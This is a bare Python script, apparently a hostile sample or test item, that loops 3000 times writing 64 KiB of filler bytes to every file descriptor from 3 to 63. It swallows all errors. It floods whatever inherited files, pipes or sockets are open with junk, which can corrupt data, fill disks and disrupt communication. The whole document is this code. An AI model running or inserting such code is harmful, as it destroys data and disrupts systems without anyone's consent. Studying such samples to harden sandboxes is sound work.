import os

for _ in range(3000):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"y" * 65536)
        except OSError:
            pass
